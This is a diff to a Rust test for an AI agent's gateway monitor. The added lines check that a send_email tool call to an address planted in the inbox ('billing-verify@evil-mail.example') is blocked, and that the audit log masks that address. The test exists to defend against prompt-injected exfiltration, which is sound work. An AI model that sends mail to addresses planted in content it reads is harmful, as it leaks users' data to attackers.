@@ -46,6 +46,17 @@ fn the_built_in_gateway_monitor_blocks_a_planted_address() {
         why.contains("rule 14") && why.contains("read_inbox"),
         "{why}"
     );
+    // The audit's reason masks the value; the person's keeps it.
+    let d = s.gate(&Action::Tool(ToolCall::new(
+        "send_email",
+        &json!({"recipients": ["billing-verify@evil-mail.example"], "body": "summary"}),
+    )));
+    let masked = s.reason_masked(&d);
+    assert!(!masked.contains("evil-mail"), "{masked}");
+    let digest = augur_gate::provenance::mask_value("billing-verify@evil-mail.example");
+    assert!(digest.starts_with("bi…#") && digest.len() == "bi…#".len() + 8);
+    assert!(masked.contains(&digest), "{masked}");
+    assert!(s.reason(&d).contains("billing-verify@evil-mail.example"));
     let (v, why) = gate(
         &mut s,
         "send_email",
